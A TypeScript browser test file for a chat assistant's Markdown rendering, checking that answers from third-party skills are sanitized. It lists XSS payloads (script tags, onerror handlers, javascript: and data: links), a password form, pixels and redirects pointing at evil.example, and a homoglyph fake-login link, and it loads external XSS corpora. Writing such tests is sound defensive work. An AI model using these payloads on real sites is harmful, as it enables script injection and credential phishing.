import { existsSync } from "node:fs";
import { readFile } from "node:fs/promises";
import { resolve } from "node:path";
import { describe, expect, test } from "vitest";
import type { SkillOperation } from "../../server/test/world/skill-file.ts";
import { inspect, type Visit } from "./browser.ts";
import { says, skillWorld } from "./skill-world.ts";

/* What a skill answers is shown as it wants to look, and does nothing: no script, no request, no link by itself. */

const world = skillWorld();

const show: SkillOperation = {
  operationId: "showPage",
  path: "/page",
  summary: "查看页面 / Show the page",
  scopes: [],
  examples: ["查看页面", "Show the page"],
  more: { "x-dingtalk-display-result": "markdown" },
};

const own = [
  "![picture](https://evil.example/pixel.png)",
  "![reference][pixel]",
  "[pixel]: https://evil.example/reference.png",
  '<img src="https://evil.example/tag.png" onerror="alert(1)">',
  "<script>alert(1)</script>",
  '<iframe src="https://evil.example/"></iframe>',
  '<svg onload="alert(1)"></svg>',
  '<form action="https://evil.example/"><input name="password"><button>允许访问</button></form>',
  '<link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"</style>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "[javascript](javascript:alert(1))",
  "[entities](&#x6A;avascript:alert(1))",
  "[tab](java\tscript:alert(1))",
  "[data](data:text/html,<script>alert(1)</script>)",
  "[vbscript](vbscript:msgbox(1))",
  "[relative](/api/session)",
  "[protocol](//evil.example/)",
  "<javascript:alert(1)>",
  "https://evil.example/autolink",
  "[footnote][^1]",
  "[^1]: <img src=x onerror=alert(1)>",
  "- [x] done <input autofocus onfocus=alert(1)>",
  "$\\href{javascript:alert(1)}{x}$",
];

const files = ["xss-alert.txt", "xss-polyglots.txt", "xss-portswigger.txt"].map((name) =>
  resolve(import.meta.dirname, "../../../shared/data/corpora/payloads", name),
);
const there = files.every(existsSync);

/** Each payload in items of its own, so that none can swallow the others: as a block, in a line, as a target. */
function pageOf(payloads: readonly string[]): string {
  return payloads
    .flatMap((line) => [
      `- ${line}`,
      `- inline ${line}`,
      `- [target](<${line}>)`,
      `- ![picture](<${line}>)`,
      `- \`code\` **${line}**`,
    ])
    .join("\n");
}

const shown =
  "div p span ul ol li strong em del code pre blockquote h1 h2 h3 h4 h5 h6 hr br table thead tbody tr th td button sup sub section";

/** What stands in the answer and must not: any other element, and attributes that act, load or lead anywhere. */
function harmIn({ page }: Visit): Promise<string[]> {
  return page.evaluate((allowed) => {
    const harmful = /^on|^(?:style|src|srcset|href|action|formaction|name|autofocus)$/i;
    return [...document.querySelectorAll(".answer *")]
      .filter(
        (element) =>
          !allowed.includes(element.localName) ||
          element.getAttributeNames().some((name) => harmful.test(name)),
      )
      .map(({ outerHTML }) => outerHTML);
  }, shown.split(" "));
}

async function shows(content: string): Promise<Visit & { dialogs: string[] }> {
  world.skill.answersWith(async () => ({ content }));
  const assistant = await world.assistant("Pages", [show]);
  const look = { language: "en", theme: "light", width: 1280 } as const;
  const alice = await world.opens("member", assistant, look);
  const dialogs: string[] = [];
  alice.page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await says(alice, "Show the page");
  await alice.page.getByRole("button", { name: "Copy answer" }).waitFor();
  await alice.page.locator(".answer").waitFor();
  return { ...alice, dialogs };
}

test("an answer in Markdown has no element that acts, loads or leads anywhere (T24)", async () => {
  const alice = await shows(`# Hello\n\nA **bold** word.\n\n${own.join("\n\n")}`);

  expect(await alice.page.locator(".answer h1").textContent()).toBe("Hello");
  expect(await alice.page.locator(".answer strong").first().textContent()).toBe("bold");
  expect(await harmIn(alice)).toEqual([]);
  expect(await inspect(alice, "hostile-answer")).toEqual([]);
  await alice.page.reload();
  await alice.page.locator(".answer").waitFor();
  expect(await harmIn(alice)).toEqual([]);
  expect(alice.dialogs).toEqual([]);
  expect(alice.complaints).toEqual([]);
  await alice.context.close();
});

test("a link leads somewhere only after a person has seen where (T24)", async () => {
  const alice = await shows("[钉钉官方](https://dіngtalk.example/login?next=1)");
  const { page, context } = alice;
  const before = page.url();

  await page.getByText("钉钉官方").click();
  const dialog = page.getByRole("dialog");
  await dialog.getByText("https://xn--").waitFor();
  const link = dialog.getByRole("link");
  expect(await link.getAttribute("href")).toMatch(/^https:\/\/xn--/);
  expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
  await dialog.getByRole("button", { name: "Cancel" }).click();

  expect(page.url()).toBe(before);
  expect(context.pages()).toHaveLength(1);
  expect(alice.complaints).toEqual([]);
  await context.close();
});

test("what a skill says into the chat by itself is shown as the skill's, after a reload too", async () => {
  const webhook = {
    name: "sessionWebhook",
    in: "query",
    required: true,
    schema: {
      type: "string",
      "x-dingtalk-context": { property: "currentConversation", format: "sessionWebhook" },
    },
  };
  world.skill.answersWith(async ({ query }) => {
    const said = {
      msgtype: "markdown",
      markdown: { text: "From the **skill** <img src=x onerror=alert(1)>" },
    };
    const headers = { "content-type": "application/json" };
    await fetch(query.sessionWebhook ?? "", { method: "POST", headers, body: JSON.stringify(said) });
    return { content: "From the assistant" };
  });
  const assistant = await world.assistant("Pages", [{ ...show, parameters: [webhook] }]);
  const look = { language: "en", theme: "dark", width: 360 } as const;
  const alice = await world.opens("member", assistant, look);
  await says(alice, "Show the page");

  await alice.page.getByText("Sent by a skill").waitFor();
  await expect
    .poll(() => alice.page.locator(".answer").allTextContents())
    .toEqual(["From the skill ", "From the assistant"]);
  expect(await inspect(alice, "said-by-skill")).toEqual([]);
  await alice.page.reload();
  await alice.page.getByText("Sent by a skill").waitFor();
  await expect.poll(() => alice.page.locator(".answer").count()).toBe(2);
  expect(await harmIn(alice)).toEqual([]);
  expect(alice.complaints).toEqual([]);
  await alice.context.close();
});

describe.skipIf(!there)("the payloads of the corpus (skipped where the corpus is not there)", () => {
  test("are shown as text, and none of them runs, loads or leads anywhere (T24)", async () => {
    const lines = (await Promise.all(files.map((file) => readFile(file, "utf8"))))
      .join("\n")
      .split("\n")
      .filter((line) => line.trim() !== "");
    expect(lines.length).toBeGreaterThan(300);
    for (let at = 0; at < lines.length; at += 100) {
      const alice = await shows(pageOf(lines.slice(at, at + 100)));
      expect(await alice.page.locator(".answer li").count()).toBeGreaterThan(100);
      expect(await harmIn(alice)).toEqual([]);
      expect(alice.dialogs).toEqual([]);
      expect(alice.complaints).toEqual([]);
      await alice.context.close();
    }
  });
});
